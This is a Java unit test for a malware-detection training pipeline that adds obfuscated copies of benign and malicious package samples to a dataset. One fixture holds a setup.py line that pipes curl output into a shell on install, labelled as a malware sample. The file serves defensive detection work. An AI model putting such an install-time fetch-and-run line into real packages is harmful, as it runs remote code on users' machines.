package dev.fang.robustness;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fang.featurize.features.PackageContents;
import dev.fang.training.dataset.DatasetRow;
import dev.fang.training.dataset.PackageSource;
import java.util.List;
import org.junit.jupiter.api.Test;

class ObfuscatedCopiesTest {
    private static final String MODULE = """
            import os
            import json

            URL = 'https://example.org/api/v1/items'

            def load(path):
                with open(os.path.join(path, 'items.json')) as handle:
                    return json.load(handle)

            def describe(items):
                return ', '.join('%s=%d' % (name, count) for name, count in sorted(items.items()))
            """;

    private static PackageSource slice(String id, String group) {
        DatasetRow row = new DatasetRow(id, 0, group, DatasetRow.SLICE_KIND, "", "", "abc:slice1", 0);
        return new PackageSource(row, () -> Fixtures.pkg("items/__init__.py", MODULE));
    }

    private static PackageSource malware() {
        return new PackageSource(new DatasetRow("mal:x", 1, "campaign", "malregistry", "malicious", "2024-01-01", "m", 0),
                () -> Fixtures.pkg("setup.py", "import os\nos.system('curl https://example.org/x | sh')\n"));
    }

    private static PackageSource wholeBenign() {
        return new PackageSource(new DatasetRow("deb:c", 0, "c", "debian-binary", "", "", "d", 0),
                () -> Fixtures.pkg("items/__init__.py", MODULE));
    }

    @Test
    void shouldFollowEachPackageAndSliceWithAnObfuscatedCopyInItsGroupForTrainingOnly() throws Exception {
        List<PackageSource> sources = ObfuscatedCopies.withCopies(List.of(slice("slice:deb:a", "a"), malware(), wholeBenign(),
                slice("slice:deb:b", "b")));

        assertThat(sources).extracting(source -> source.row().id())
                .containsExactly("slice:deb:a", "obf:slice:deb:a", "mal:x", "obf:mal:x", "deb:c", "obf:deb:c", "slice:deb:b",
                        "obf:slice:deb:b");
        DatasetRow benignCopy = sources.get(1).row();
        assertThat(benignCopy.label()).isZero();
        assertThat(benignCopy.group()).isEqualTo("a");
        assertThat(benignCopy.kind()).isEqualTo(DatasetRow.OBFUSCATED_BENIGN_KIND);
        assertThat(benignCopy.derived()).isTrue();
        assertThat(benignCopy.sha256()).isEqualTo("abc:slice1:obf1"); // its own cache entry, never the slice's

        assertThat(sources.get(5).row().kind()).isEqualTo(DatasetRow.OBFUSCATED_BENIGN_KIND);
        DatasetRow malwareCopy = sources.get(3).row();
        assertThat(malwareCopy.label()).isOne();
        assertThat(malwareCopy.group()).isEqualTo("campaign");
        assertThat(malwareCopy.kind()).isEqualTo(DatasetRow.OBFUSCATED_MALWARE_KIND);
        assertThat(malwareCopy.date()).isEqualTo("2024-01-01"); // the time split keeps it with its campaign
        assertThat(malwareCopy.derived()).isTrue();
        assertThat(malwareCopy.sha256()).isEqualTo("m:obf1");
    }

    @Test
    void shouldNeverCopyACopy() {
        List<PackageSource> copies = ObfuscatedCopies.withCopies(List.of(slice("slice:deb:a", "a"), malware())).stream()
                .filter(source -> source.row().id().startsWith("obf:")).toList();

        assertThat(ObfuscatedCopies.withCopies(copies)).extracting(source -> source.row().id())
                .containsExactly("obf:slice:deb:a", "obf:mal:x");
    }

    @Test
    void shouldObfuscateTheSameWayEveryTime() throws Exception {
        PackageSource copy = ObfuscatedCopies.withCopies(List.of(slice("slice:deb:a", "a"))).get(1);
        PackageContents once = copy.loader().load();
        PackageContents again = copy.loader().load();

        String original = Fixtures.text(Fixtures.pkg("items/__init__.py", MODULE), "items/__init__.py");
        assertThat(Fixtures.texts(once)).isEqualTo(Fixtures.texts(again));
        assertThat(Fixtures.texts(once).values()).noneMatch(text -> text.equals(original));
        assertThat(String.join("\n", Fixtures.texts(once).values())).doesNotContain("'https://example.org/api/v1/items'");
    }
}
